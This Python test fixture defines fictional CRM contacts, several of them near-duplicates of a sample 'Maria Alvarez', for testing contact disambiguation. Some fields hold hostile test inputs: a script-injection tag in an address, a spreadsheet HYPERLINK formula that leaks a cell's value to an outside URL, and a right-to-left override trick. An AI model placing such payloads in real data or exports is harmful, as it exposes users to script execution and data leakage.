"""Hand-made people whom a client must not confuse.

Maria Alvarez is the sample person: three contacts, each owned by another user.
The others are close to her but not her. ``owner`` is a user's id here; the full
contact has a reference. The first id is also the id of an unrelated user,
because each type counts its own ids.
"""

from __future__ import annotations

from te_connector.sandbox.store import Json

SAMPLE = {
    "name": "Maria Alvarez",
    "email": "maria.alvarez@example.com",
    "phone": "763-555-0123",
    "home_phone": "612-555-0147",
}
"""What the sample person would write into a request; her husband shares the home phone."""

SAMPLE_CONTACTS = (2317, 2328, 310042117)
SAMPLE_USER = 2317
CAST_SURNAMES = frozenset(
    ("Alvarez", "Alvarado", "Lindqvist", "Raman", "Okafor", "Haddad", "Novak", "Tremblay")
)

_LONG = "Asked for the appraisal, the survey and the title commitment again. " * 60
_RTL = "\u05de\u05e8\u05d9\u05d4 \u202eevil\u202c \u0645\u0627\u0631\u064a\u0627"

CAST: tuple[Json, ...] = (
    {
        "id": 2317,
        "owner": 59,
        "first_name": "Maria",
        "last_name": "Alvarez",
        "nickname": "Mia \U0001f3e1",
        "email": "maria.alvarez@example.com",
        "phone_cell": "(763)555-0123",
        "phone_home": "612.555.0147",
        "address": "4100 Vernon Ave S",
        "address_2": "<script>alert('address')</script>",
        "city": "Minneapolis",
        "state": "MN",
        "zip_code": "55416",
        "employer_name": '=HYPERLINK("https://example.com/?x="&A1,"pay slip")',
        "referred_by": _RTL,
        "source": "Encompass",
        "external_id": "LOS-884213",
        "external_ids": [
            {"source": "Encompass", "external_id": "LOS-884213"},
            {"source": "Velocify", "external_id": "V-20931"},
        ],
        "credit_score": "Good",
        "birthday": "1900-04-12",
        "close_date": "2025-06-30",
        "last_contacted_date": "2026-10-02 15:31:09",
        "custom": [
            {"field_name": "notes_from_call", "value": _LONG, "description": "Free text"},
            {"field_name": "co_borrower", "value": "Daniel Alvarez", "description": None},
        ],
    },
    {
        "id": 2328,
        "owner": 41,
        "first_name": "Maria",
        "last_name": "Alvarez",
        "title": "Architect",
        "email_work": "Maria.Alvarez@Example.COM",
        "source": "Open house",
        "last_contacted_date": "0000-00-00 00:00:00",
    },
    {
        "id": 310042117,
        "owner": 63,
        "first_name": "M.",
        "last_name": "Alvarez",
        "phone_cell": "+1 763 555 0123",
        "source": "Zillow",
        "list_date": "2026-08-01",
    },
    {
        "id": 2321,
        "owner": 59,
        "first_name": "Daniel",
        "last_name": "Alvarez",
        "email": "daniel.alvarez@example.com",
        "phone_cell": "612-555-0109",
        "phone_home": "(612) 555-0147",
        "address": "4100 Vernon Ave S",
        "city": "Minneapolis",
        "state": "MN",
        "zip_code": "55416",
        "source": "Encompass",
        "external_id": "LOS-884214",
    },
    {
        "id": 2309,
        "owner": 77,
        "first_name": "Maria",
        "last_name": "Alvarez",
        "email": "m.alvarez.1984@example.org",
        "phone_cell": "952-555-0118",
        "city": "Duluth",
        "state": "MN",
        "source": "Website",
        "external_id": "884213",
    },
    {
        "id": 2334,
        "owner": 59,
        "first_name": "Mariana",
        "last_name": "Alvarado",
        "email": "maria.alvarez+home@example.com",
        "phone_cell": "651.555.0142",
        "source": "Referral",
    },
    {
        "id": 2312,
        "owner": 41,
        "first_name": "Gunnar",
        "last_name": "Lindqvist",
        "email": "gunnar.lindqvist@example.net",
        "phone_cell": "(651)555-0123",
        "source": "Velocify",
        # The same text as Maria's, from another system.
        "external_id": "V-20931",
    },
    {
        "id": 2325,
        "owner": 88,
        "first_name": "Priya",
        "last_name": "Raman",
        "email": "priya.raman@example.com",
        "phone_office": "952-555-0100 ext. 204",
        "employer_name": "Raman & Sons, Ltd.",
        "source": "Referral",
    },
    {
        "id": 2338,
        "owner": 88,
        "first_name": "Chidi",
        "last_name": "Okafor",
        "email_work": "chidi.okafor@example.com",
        "phone_cell": "+1 612 555 0133",
        "phone_office": "(952) 555-0100 x310",
        "source": "Referral",
    },
    {
        "id": 2305,
        "owner": 102,
        "first_name": "Layla",
        "last_name": "Haddad",
        "email": "layla.haddad@example.org",
        "phone_cell": "tel:+1-651-555-0133",
        "referred_by": "\u0644\u064a\u0644\u0649",
        "source": "Website",
    },
    {
        "id": 2330,
        "owner": 63,
        "first_name": "Petr",
        "last_name": "Novak",
        "email": " Petr.Novak@example.net ",
        "phone_home": "5550147",
        "source": "Open house",
    },
    {
        "id": 2307,
        "owner": 77,
        "first_name": "Jos\u00e9e",
        "last_name": "Tremblay",
        "email": "n/a",
        "phone_cell": "n/a",
        "phone_home": "same as cell",
        "address": "12 Rue d'Example, apt. 3, \u20ac \U0001f600",
        "source": "Website",
        "external_id": "n/a",
    },
)
